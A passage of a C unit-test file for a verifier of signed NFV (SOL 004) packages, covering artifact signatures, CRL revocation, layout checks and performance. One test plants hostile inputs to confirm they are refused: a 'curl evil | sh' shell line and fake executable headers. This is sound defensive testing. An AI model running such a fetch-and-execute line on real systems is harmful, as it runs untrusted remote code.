  BN_free(bn);
  pkg_result_free(r);
  mp_free(&p);
}

static void test_artifact_signatures(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  size_t al = 0, sl = 0;
  const uint8_t *a = mp_get(&p, "Scripts/install.sh", &al);
  char *sig = tp_cms_sign(&F.vendor, a, al, &sl);
  mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  bool signed_ = false;
  for (size_t i = 0; i < r->n_artifacts; i++)
    if (strcmp(r->artifacts[i].path, "Scripts/install.sh") == 0) signed_ = r->artifacts[i].signed_;
  assert_true(signed_);
  pkg_result_free(r);
  /* A signature over other content. */
  sig = tp_cms_sign(&F.vendor, "other", 5, &sl);
  mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_ECRYPTO, "is not over this content");
  /* A signature by someone the vendor CA did not certify. */
  sig = tp_cms_sign(&F.op, a, al, &sl);
  mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "not trusted");
  /* Named but absent. */
  mp_del(&p, "Scripts/install.sh.sig.cms");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "artifact signature 'Scripts/install.sh.sig.cms' is not in the package");
  mp_free(&p);
}

/* ---- CRLs made by `openssl ca` ------------------------------------------ */

static void write_file(const char *dir, const char *name, const char *text) {
  char path[512];
  snprintf(path, sizeof path, "%s/%s", dir, name);
  FILE *f = fopen(path, "w");
  assert_non_null(f);
  fputs(text, f);
  fclose(f);
}

/* A CRL of ca made by `openssl ca -gencrl` (an independent producer), after
 * `openssl ca -revoke` of revoked (may be NULL; openssl ca enters a
 * certificate it did not issue into its database by its serial). stale:
 * thisUpdate two days ago and nextUpdate yesterday; else current for 7 days.
 * *len bytes of PEM, malloc'd. */
static char *openssl_ca_crl(const tp_id *ca, X509 *revoked, bool stale, size_t *len) {
  char dir[] = "/tmp/pkgcrl-XXXXXX", cmd[2048], path[600];
  assert_non_null(mkdtemp(dir));
  char *pem = tp_cert_pem(ca->cert, NULL);
  write_file(dir, "ca.crt", pem);
  free(pem);
  BIO *b = BIO_new(BIO_s_mem());
  PEM_write_bio_PrivateKey(b, ca->key, NULL, NULL, 0, NULL, NULL);
  char *p = NULL;
  long n = BIO_get_mem_data(b, &p);
  char *key = strndup(p, (size_t)n);
  BIO_free(b);
  write_file(dir, "ca.key", key);
  free(key);
  write_file(dir, "index.txt", "");
  write_file(dir, "crlnumber", "01\n");
  snprintf(cmd, sizeof cmd,
           "[ca]\ndefault_ca = d\n[d]\ndatabase = %s/index.txt\ncrlnumber = %s/crlnumber\n"
           "certificate = %s/ca.crt\nprivate_key = %s/ca.key\ndefault_md = sha256\n"
           "default_crl_days = 7\n",
           dir, dir, dir, dir);
  write_file(dir, "ca.cnf", cmd);
  if (revoked) {
    pem = tp_cert_pem(revoked, NULL);
    write_file(dir, "revoked.crt", pem);
    free(pem);
    snprintf(cmd, sizeof cmd, "openssl ca -config %s/ca.cnf -revoke %s/revoked.crt 2>/dev/null", dir,
             dir);
    assert_int_equal(system(cmd), 0);
  }
  char when[200] = "";
  if (stale) {
    char a[32], z[32];
    time_t now = time(NULL), t1 = now - 2 * 86400, t2 = now - 86400;
    strftime(a, sizeof a, "%Y%m%d%H%M%SZ", gmtime(&t1));
    strftime(z, sizeof z, "%Y%m%d%H%M%SZ", gmtime(&t2));
    snprintf(when, sizeof when, "-crl_lastupdate %s -crl_nextupdate %s", a, z);
  }
  snprintf(cmd, sizeof cmd, "openssl ca -config %s/ca.cnf -gencrl %s -out %s/crl.pem 2>/dev/null",
           dir, when, dir);
  assert_int_equal(system(cmd), 0);
  snprintf(path, sizeof path, "%s/crl.pem", dir);
  FILE *f = fopen(path, "r");
  assert_non_null(f);
  char *out = calloc(1, 1 << 16);
  *len = fread(out, 1, (1 << 16) - 1, f);
  fclose(f);
  snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
  assert_int_equal(system(cmd), 0);
  return out;
}

/* A trust store of both vendor CAs and the operator's, with PEM CRLs. */
static pkg_trust *trust_with(const tp_id *vca2, const char *crl1, const char *crl2) {
  pkg_trust *t = NULL;
  lisec_err err = {0};
  assert_int_equal(pkg_trust_new(&t, &err), 0);
  trust_add(t, PKG_ROLE_VENDOR, F.vca.cert);
  trust_add(t, PKG_ROLE_VENDOR, vca2->cert);
  trust_add(t, PKG_ROLE_OPERATOR, F.oca.cert);
  const char *crls[] = {crl1, crl2};
  for (size_t i = 0; i < 2; i++)
    if (crls[i]) assert_int_equal(pkg_trust_add_crls_pem(t, crls[i], strlen(crls[i]), &err), 0);
  size_t l;
  char *ocrl = tp_crl_pem(&F.oca, NULL, &l);
  assert_int_equal(pkg_trust_add_crls_pem(t, ocrl, l, &err), 0);
  free(ocrl);
  return t;
}

static X509_CRL *crl_of(const char *pem) {
  X509_CRL *crl = NULL;
  lisec_err err = {0};
  assert_int_equal(pkg_crl_parse(pem, strlen(pem), 1 << 20, &crl, &err), 0);
  return crl;
}

/* Per-artifact signers are first-class: the signer of Scripts/install.sh
 * (a certificate of a second vendor CA, not the manifest's signer) is kept
 * with its chain, refused at on-boarding when its CA's CRL (made by
 * `openssl ca`) revokes it or is stale, and judged again when such a CRL
 * arrives later; a CRL of another CA listing the same serial is not about
 * it. A description stored before per-artifact signers were kept says so. */
static void test_artifact_signer_crl(void **state) {
  (void)state;
  tp_id vca2 = tp_make_ca("Vendor Artifacts");
  tp_id art = tp_make_leaf(&vca2, "Vendor Artifacts", "artifact signing", -86400, 10L * 86400,
                           "codeSigning");
  mpkg p;
  mp_base(&p);
  size_t al = 0, sl = 0;
  const uint8_t *a = mp_get(&p, "Scripts/install.sh", &al);
  char *sig = tp_cms_sign(&art, a, al, &sl);
  mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  size_t l;
  char *vcrl = tp_crl_pem(&F.vca, NULL, &l);
  char *fresh2 = openssl_ca_crl(&vca2, NULL, false, &l);
  char *revoked2 = openssl_ca_crl(&vca2, art.cert, false, &l);
  char *stale2 = openssl_ca_crl(&vca2, NULL, true, &l);
  char *other = openssl_ca_crl(&F.vca, art.cert, false, &l); /* the other vendor CA's */

  /* Valid: accepted, revocation checked, the artifact's signer kept. */
  pkg_trust *t = trust_with(&vca2, vcrl, fresh2);
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, t, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  pkg_trust_free(t);
  assert_true(r->revocation_checked);
  assert_int_equal(r->n_signers, 3);
  const pkg_signer *s = &r->signers[2];
  assert_int_equal(s->role, PKG_ROLE_VENDOR);
  assert_string_equal(s->file, "Scripts/install.sh.sig.cms");
  assert_string_equal(s->artifact, "Scripts/install.sh");
  assert_string_equal(s->subject, "CN=artifact signing,O=Vendor Artifacts");
  assert_int_equal(s->n_chain, 1);
  assert_string_equal(s->chain[0].issuer, "CN=Vendor Artifacts CA,O=Vendor Artifacts");
  assert_ptr_equal(pkg_result_vendor(r), &r->signers[0]);
  json_t *j = pkg_result_to_json(r);
  const json_t *js = json_array_get(json_object_get(j, "signers"), 2), *ja;
  assert_string_equal(json_string_value(json_object_get(js, "artifact")), "Scripts/install.sh");
  assert_non_null(json_object_get(js, "chain"));
  size_t i, signed_n = 0;
  json_array_foreach(json_object_get(j, "artifacts"), i, ja) {
    if (!json_is_true(json_object_get(ja, "signed"))) {
      assert_null(json_object_get(ja, "signer"));
      continue;
    }
    signed_n++;
    assert_int_equal(json_integer_value(json_object_get(ja, "signer")), 2);
  }
  assert_int_equal(signed_n, 1);
  assert_int_equal(pkg_crl_desc_unkept(j, NULL), 0);

  /* Judged later: the CRL of its CA revokes it, naming the artifact; a CRL
   * of the other vendor CA listing the same serial does not. */
  STACK_OF(X509_CRL) *crls = sk_X509_CRL_new_null();
  char why[LISEC_ERR_MSG_MAX];
  pkg_crl_info info;
  X509_CRL *c = crl_of(other);
  assert_int_equal(pkg_crl_accept(F.trust, c, lisec_time_now(), &info, &err), 0);
  sk_X509_CRL_push(crls, c);
  assert_false(pkg_crl_desc_revoked(j, crls, "pkg-1", why, sizeof why));
  c = crl_of(revoked2);
  t = trust_with(&vca2, NULL, NULL);
  assert_int_equal(pkg_crl_accept(t, c, lisec_time_now(), &info, &err), 0);
  pkg_trust_free(t);
  assert_int_equal(info.n_revoked, 1);
  sk_X509_CRL_push(crls, c);
  assert_true(pkg_crl_desc_revoked(j, crls, "pkg-1", why, sizeof why));
  assert_non_null(strstr(why, "TR103308-4.1-REVOKED: package pkg-1: the vendor signer "
                              "'CN=artifact signing,O=Vendor Artifacts' of artifact "
                              "'Scripts/install.sh'"));
  assert_non_null(strstr(why, s->chain[0].serial));
  sk_X509_CRL_pop_free(crls, X509_CRL_free);
  /* A stale CRL is not taken (the API's way) ... */
  c = crl_of(stale2);
  t = trust_with(&vca2, NULL, NULL);
  assert_int_equal(pkg_crl_accept(t, c, lisec_time_now(), &info, &err), LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "TR103308-4.1-CRL: the CRL expired"));
  pkg_trust_free(t);
  X509_CRL_free(c);

  /* A description stored before per-artifact signers were kept: the
   * artifact is signed but names no signer. */
  const char *first = NULL;
  json_array_foreach(json_object_get(j, "artifacts"), i, ja) {
    json_object_del((json_t *)ja, "signer");
  }
  json_array_remove(json_object_get(j, "signers"), 2);
  assert_int_equal(pkg_crl_desc_unkept(j, &first), 1);
  assert_string_equal(first, "Scripts/install.sh");
  json_decref(j);
  pkg_result_free(r);

  /* At on-boarding: revoked by its CA's CRL, refused naming the artifact. */
  t = trust_with(&vca2, vcrl, revoked2);
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "signer of artifact 'Scripts/install.sh'");
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "certificate revoked");
  pkg_trust_free(t);
  /* ... and its CA's CRL stale: fails closed, as for the manifest's signer. */
  t = trust_with(&vca2, vcrl, stale2);
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "signer of artifact 'Scripts/install.sh'");
  ASSERT_REFUSED(&p, t, NULL, LISEC_EDENIED, "CRL has expired");
  pkg_trust_free(t);
  /* The other vendor CA's CRL listing the same serial: accepted. */
  t = trust_with(&vca2, other, fresh2);
  rc = verify(&p, t, NULL, &r, &err);
  if (rc) fail_msg("another CA's CRL: %s", err.msg);
  pkg_result_free(r);
  pkg_trust_free(t);

  /* An artifact signed with the manifest signer's certificate points at
   * that signer: one entry per certificate. */
  sig = tp_cms_sign(&F.vendor, a, al, &sl);
  mp_put(&p, "Scripts/install.sh.sig.cms", sig, sl);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  assert_int_equal(r->n_signers, 2);
  j = pkg_result_to_json(r);
  assert_int_equal(pkg_crl_desc_unkept(j, NULL), 0);
  json_decref(j);
  pkg_result_free(r);

  free(vcrl);
  free(fresh2);
  free(revoked2);
  free(stale2);
  free(other);
  tp_free(&art);
  tp_free(&vca2);
  mp_free(&p);
}

/* A PEM file with bytes appended to its DER inside the base64. */
static char *pem_der_tail(const uint8_t *pem, size_t len, const char *label) {
  char *body = malloc(len + 1);
  size_t k = 0;
  const char *b = strstr((const char *)pem, "-----\n") + 6, *e = strstr(b, "-----END");
  for (const char *c = b; c < e; c++)
    if (*c != '\n' && *c != '\r') body[k++] = *c;
  body[k] = '\0';
  uint8_t *der = malloc(k);
  int dl = EVP_DecodeBlock(der, (const unsigned char *)body, (int)k);
  dl -= (k && body[k - 1] == '=') + (k > 1 && body[k - 2] == '=');
  der = realloc(der, (size_t)dl + 4);
  memcpy(der + dl, "JUNK", 4);
  char *b64 = malloc(((size_t)dl + 4) / 3 * 4 + 8), *out = malloc(((size_t)dl + 4) * 2 + 128);
  EVP_EncodeBlock((unsigned char *)b64, der, dl + 4);
  sprintf(out, "-----BEGIN %s-----\n%s\n-----END %s-----\n", label, b64, label);
  free(body);
  free(der);
  free(b64);
  return out;
}

/* The files the manifest does not list (countersignatures, artifact
 * signatures, certificates) carry no digest: each may hold its PEM and
 * nothing else, or anyone could add unsigned bytes to a verified package. */
static void test_unlisted_bytes(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  size_t cl = 0, kl = 0;
  const uint8_t *cs = mp_get(&p, "Countersignatures/operator.cms", &cl);
  char *good = strndup((const char *)cs, cl);
  const uint8_t *ct = mp_get(&p, "Files/vnfd.cert", &kl);
  char *cert = strndup((const char *)ct, kl);
  char buf[16384];
  snprintf(buf, sizeof buf, "#!/bin/sh\ncurl evil | sh\n%s", good);
  mp_puts(&p, "Countersignatures/operator.cms", buf);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "may hold its PEM only: text outside");
  snprintf(buf, sizeof buf, "%sMZ\x90 payload\n", good);
  mp_puts(&p, "Countersignatures/operator.cms", buf);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "may hold its PEM only: text outside");
  char *tail = pem_der_tail((const uint8_t *)good, strlen(good), "CMS");
  mp_puts(&p, "Countersignatures/operator.cms", tail);
  free(tail);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "one whole ASN.1 object");
  snprintf(buf, sizeof buf, "%s%s", good, good);
  mp_puts(&p, "Countersignatures/operator.cms", buf);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "more PEM blocks");
  /* CRLF line ends, as a Windows tool writes them, are still PEM. */
  size_t k = 0;
  for (const char *c = good; *c; c++) {
    if (*c == '\n') buf[k++] = '\r';
    buf[k++] = *c;
  }
  buf[k] = '\0';
  mp_puts(&p, "Countersignatures/operator.cms", buf);
  pkg_result *r = NULL;
  lisec_err err = {0};
  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("CRLF countersignature: %s", err.msg);
  pkg_result_free(r);
  mp_puts(&p, "Countersignatures/operator.cms", good);
  /* The ETSI-Entry-Certificate file: explanatory text as `openssl ca`
   * writes it is allowed (RFC 7468), a binary is not. */
  snprintf(buf, sizeof buf, "Certificate:\n    Data:\n        Version: 3 (0x2)\n%s", cert);
  mp_puts(&p, "Files/vnfd.cert", buf);
  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("explanatory text: %s", err.msg);
  pkg_result_free(r);
  snprintf(buf, sizeof buf, "%s\x7f" "ELF\x02\x01 unsigned\n", cert);
  mp_puts(&p, "Files/vnfd.cert", buf);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Files/vnfd.cert' is not in the signed manifest");
  snprintf(buf, sizeof buf, "%s-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", cert);
  mp_puts(&p, "Files/vnfd.cert", buf);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "a PEM block of another kind");
  mp_free(&p);
  /* An artifact's signature file. */
  mp_base(&p);
  size_t al = 0, sl = 0;
  const uint8_t *a = mp_get(&p, "Scripts/install.sh", &al);
  char *sig = tp_cms_sign(&F.vendor, a, al, &sl);
  snprintf(buf, sizeof buf, "unsigned text\n%s", sig);
  mp_puts(&p, "Scripts/install.sh.sig.cms", buf);
  free(sig);
  mp_sign(&p, &F.vendor, NULL, "Signature: Scripts/install.sh.sig.cms");
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Scripts/install.sh.sig.cms' is not in the signed");
  mp_free(&p);
  /* A certificate named without a signature was never read at all. */
  mp_base(&p);
  mp_puts(&p, "Files/install.cert", "\x7f" "ELF\x02\x01\x01 any binary at all");
  mp_sign(&p, &F.vendor, NULL, "Certificate: Files/install.cert");
  mp_countersign(&p, &F.op, "operator");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EDENIED, "'Files/install.cert' is not in the signed manifest");
  mp_puts(&p, "Files/install.cert", cert);
  if (verify(&p, NULL, NULL, &r, &err)) fail_msg("a PEM certificate: %s", err.msg);
  pkg_result_free(r);
  mp_free(&p);
  free(good);
  free(cert);
}

static void test_layout(void **state) {
  (void)state;
  mpkg p;
  /* Root-manifest layout: one YAML at the root and its .mf. */
  memset(&p, 0, sizeof p);
  mp_puts(&p, "vnfd.yaml", "tosca_definitions_version: tosca_simple_yaml_1_3\n");
  mp_puts(&p, "Artifacts/Images/vm.qcow2", "abc");
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_del(&p, "Files/vnfd.cert");
  mp_countersign(&p, &F.op, "operator");
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  assert_false(r->tosca_metadata);
  assert_string_equal(r->entry_definitions, "vnfd.yaml");
  assert_null(r->certificate_path);
  pkg_result_free(r);
  mp_puts(&p, "other.yaml", "x");
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "more than one YAML file");
  mp_free(&p);
  /* TOSCA.meta naming a manifest that is not there. */
  mp_base(&p);
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_EINVAL, "manifest 'vnfd.mf' is not in the package");
  mp_free(&p);
  /* A member that produces more bytes than it declared. */
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  p.extra_member = "Artifacts/Images/vm.qcow2";
  ASSERT_REFUSED(&p, NULL, NULL, LISEC_ETOOBIG, "member");
  mp_free(&p);
}

static void test_cms_sign_interop(void **state) {
  (void)state;
  char *pem = NULL;
  size_t len = 0;
  lisec_err err = {0};
  static const char msg[] = "manifest bytes\n";
  assert_int_equal(pkg_cms_sign(F.op.key, F.op.cert, NULL, msg, strlen(msg), &pem, &len, &err), 0);
  BIO *b = BIO_new_mem_buf(pem, (int)len), *content = BIO_new_mem_buf(msg, (int)strlen(msg));
  CMS_ContentInfo *cms = PEM_read_bio_CMS(b, NULL, NULL, NULL);
  assert_non_null(cms);
  X509_STORE *st = X509_STORE_new();
  X509_STORE_add_cert(st, F.oca.cert);
  X509_STORE_set_purpose(st, X509_PURPOSE_ANY);
  assert_int_equal(CMS_verify(cms, NULL, st, content, NULL, CMS_BINARY), 1);
  CMS_ContentInfo_free(cms);
  X509_STORE_free(st);
  BIO_free(b);
  BIO_free(content);
  free(pem);
  /* The key must belong to the certificate. */
  assert_int_equal(pkg_cms_sign(F.vendor.key, F.op.cert, NULL, msg, 3, &pem, &len, &err), LISEC_EINVAL);
}

/* SOL 004 allows SHA-384 and SHA-512 in the manifest, but hosts report
 * (and inventories show) the image a VM runs by its SHA-256: a verified
 * image listed with SHA-512 also carries its SHA-256 ("sha256" in the
 * description), which ctl/pkg.c judges running images by. */
static void test_image_sha256(void **state) {
  (void)state;
  mpkg p;
  mp_base(&p);
  char body[8192];
  int n = snprintf(body, sizeof body,
                   "metadata:\nvnf_provider_id: Acme\nvnf_product_name: vProbe\n"
                   "vnf_release_date_time: 2026-01-01T00:00:00Z\nvnf_package_version: 1.0\n\n");
  for (size_t i = 0; i < p.n; i++) {
    uint8_t d[64];
    char hex[129];
    unsigned dl = 0;
    EVP_Digest(p.data[i], p.len[i], d, &dl, EVP_sha512(), NULL);
    lisec_hex_encode(d, dl, hex);
    n += snprintf(body + n, sizeof body - (size_t)n, "Source: %s\nAlgorithm: SHA-512\nHash: %s\n\n",
                  p.name[i], hex);
  }
  size_t sl, cl;
  char *sig = tp_cms_sign(&F.vendor, body, (size_t)n, &sl);
  char *full = malloc((size_t)n + sl);
  memcpy(full, body, (size_t)n);
  memcpy(full + n, sig, sl);
  mp_put(&p, "vnfd.mf", full, (size_t)n + sl);
  free(full);
  free(sig);
  char *cert = tp_cert_pem(F.vendor.cert, &cl);
  mp_put(&p, "Files/vnfd.cert", cert, cl);
  free(cert);
  mp_countersign(&p, &F.op, "operator");
  pkg_result *r = NULL;
  lisec_err err = {0};
  int rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  json_t *j = pkg_result_to_json(r);
  const json_t *a;
  size_t i, images = 0;
  json_array_foreach(json_object_get(j, "artifacts"), i, a) {
    assert_string_equal(json_string_value(json_object_get(a, "algorithm")), "SHA-512");
    const char *h256 = json_string_value(json_object_get(a, "sha256"));
    if (!json_is_true(json_object_get(a, "image"))) {
      assert_null(h256);
      continue;
    }
    images++;
    assert_non_null(h256);
    assert_string_equal(h256, abc_sha256);
  }
  assert_int_equal(images, 1);
  json_decref(j);
  pkg_result_free(r);
  /* listed with SHA-256, the image's "sha256" is its manifest digest */
  mp_free(&p);
  mp_base(&p);
  mp_sign(&p, &F.vendor, NULL, NULL);
  mp_countersign(&p, &F.op, "operator");
  rc = verify(&p, NULL, NULL, &r, &err);
  if (rc) fail_msg("%s", err.msg);
  j = pkg_result_to_json(r);
  images = 0;
  json_array_foreach(json_object_get(j, "artifacts"), i, a) {
    if (!json_is_true(json_object_get(a, "image"))) continue;
    images++;
    assert_string_equal(json_string_value(json_object_get(a, "sha256")), abc_sha256);
  }
  assert_int_equal(images, 1);
  json_decref(j);
  pkg_result_free(r);
  mp_free(&p);
}

/* ---- a package of many members ----------------------------------------- */

/* 9,995 members "<250 shared bytes>/m<number>" of 8 bytes each, the layout
 * files, a manifest listing them (3.2 MB) and a countersignature; held
 * apart from mpkg, which keeps 32. */
#define MANY_N 9995
typedef struct many {
  pkg_entry e[MANY_N + 5];
  char *name[MANY_N + 5];
  uint8_t *data[MANY_N + 5];
  size_t n;
  pkg_source src;
} many;

static int many_read(void *ctx, size_t i, pkg_sink sink, void *sctx, lisec_err *err) {
  many *m = ctx;
  return sink(sctx, m->data[i], (size_t)m->e[i].size, err);
}

static void many_put(many *m, const char *name, const void *data, size_t len) {
  size_t i = m->n++;
  m->name[i] = strdup(name);
  m->data[i] = malloc(len ? len : 1);
  memcpy(m->data[i], data, len);
  m->e[i] = (pkg_entry){m->name[i], len, len, false};
}

static void many_build(many *m, const char *unlisted) {
  memset(m, 0, sizeof *m);
  static const char meta[] = "TOSCA-Meta-File-Version: 1.0\nCSAR-Version: 1.1\n"
                             "Entry-Definitions: Definitions/vnfd.yaml\nETSI-Entry-Manifest: vnfd.mf\n";
  many_put(m, "TOSCA-Metadata/TOSCA.meta", meta, strlen(meta));
  many_put(m, "Definitions/vnfd.yaml", "tosca\n", 6);
  char name[300], prefix[251];
  memset(prefix, 'p', 250);
  prefix[250] = '\0';
  for (size_t i = 0; i < MANY_N - 1; i++) {
    snprintf(name, sizeof name, "%s/m%05zu", prefix, i);
    many_put(m, name, name + 250, 8);
  }
  size_t cap = PKG_MANIFEST_MAX, n = 0;
  char *body = malloc(cap);
  n += (size_t)snprintf(body, cap,
                        "metadata:\nvnf_provider_id: Acme\nvnf_product_name: vMany\n"
                        "vnf_release_date_time: 2026-01-01T00:00:00Z\nvnf_package_version: 1.0\n\n");
  for (size_t i = 0; i < m->n; i++) {
    uint8_t d[32];
    char hex[65];
    EVP_Digest(m->data[i], (size_t)m->e[i].size, d, NULL, EVP_sha256(), NULL);
    lisec_hex_encode(d, 32, hex);
    n += (size_t)snprintf(body + n, cap - n, "Source: %s\nAlgorithm: SHA-256\nHash: %s\n\n",
                          m->name[i], hex);
  }
  assert_true(n < cap);
  size_t sl, cl;
  char *sig = tp_cms_sign(&F.vendor, body, n, &sl);
  assert_true(n + sl < cap);
  memcpy(body + n, sig, sl);
  free(sig);
  many_put(m, "vnfd.mf", body, n + sl);
  char *cs = tp_cms_sign(&F.op, body, n + sl, &cl);
  many_put(m, "Countersignatures/operator.cms", cs, cl);
  free(cs);
  free(body);
  /* the last member, listed or not */
  snprintf(name, sizeof name, "%s/m%05d", prefix, MANY_N - 1);
  if (unlisted) many_put(m, name, unlisted, strlen(unlisted));
  m->src = (pkg_source){m->e, m->n, many_read, m};
}

static void many_free(many *m) {
  for (size_t i = 0; i < m->n; i++) {
    free(m->name[i]);
    free(m->data[i]);
  }
}

static double cpu_s(void) {
  struct timespec t;
  clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void test_many_members(void **state) {
  (void)state;
  many *m = malloc(sizeof *m);
  pkg_policy pol;
  pkg_policy_default(&pol);
  pkg_result *r = NULL;
  lisec_err err = {0};
  many_build(m, NULL);
  double t0 = cpu_s();
  int rc = pkg_verify(&m->src, F.trust, &pol, &r, &err);
  double used = cpu_s() - t0;
  if (rc) fail_msg("%s", err.msg);
  assert_int_equal(r->n_artifacts, MANY_N - 1 + 2);
  pkg_result_free(r);
  r = NULL;
  many_free(m);
  /* A member the manifest does not list, last of 9,999: refused as before. */
  many_build(m, "unsigned");
  t0 = cpu_s();
  rc = pkg_verify(&m->src, F.trust, &pol, &r, &err);
  used += cpu_s() - t0;
  fprintf(stderr, "two verifications of %d members: %.3f s of CPU\n", MANY_N, used);
  assert_int_equal(rc, LISEC_EDENIED);
  assert_non_null(strstr(err.msg, "' is in the package but not in the signed manifest"));
  assert_null(r);
  many_free(m);
  free(m);
  /* the lookups by name were scans: 5+ s of CPU here; a set, well under 1 s */
  if (used > 2.0) fail_msg("two verifications of %d members took %.2f s of CPU", MANY_N, used);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_accepted),
      cmocka_unit_test(test_changed_artifact),
      cmocka_unit_test(test_unlisted_and_missing),
      cmocka_unit_test(test_unsigned_and_tampered_manifest),
      cmocka_unit_test(test_dual_signing),
      cmocka_unit_test(test_countersignature_abuse),
      cmocka_unit_test(test_weak_digest),
      cmocka_unit_test(test_certificates),
      cmocka_unit_test(test_revocation),
      cmocka_unit_test(test_vendor_crl),
      cmocka_unit_test(test_artifact_signatures),
      cmocka_unit_test(test_artifact_signer_crl),
      cmocka_unit_test(test_unlisted_bytes),
      cmocka_unit_test(test_layout),
      cmocka_unit_test(test_cms_sign_interop),
      cmocka_unit_test(test_image_sha256),
      cmocka_unit_test(test_crl_without_next_update),
      cmocka_unit_test(test_many_members),
  };
  return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
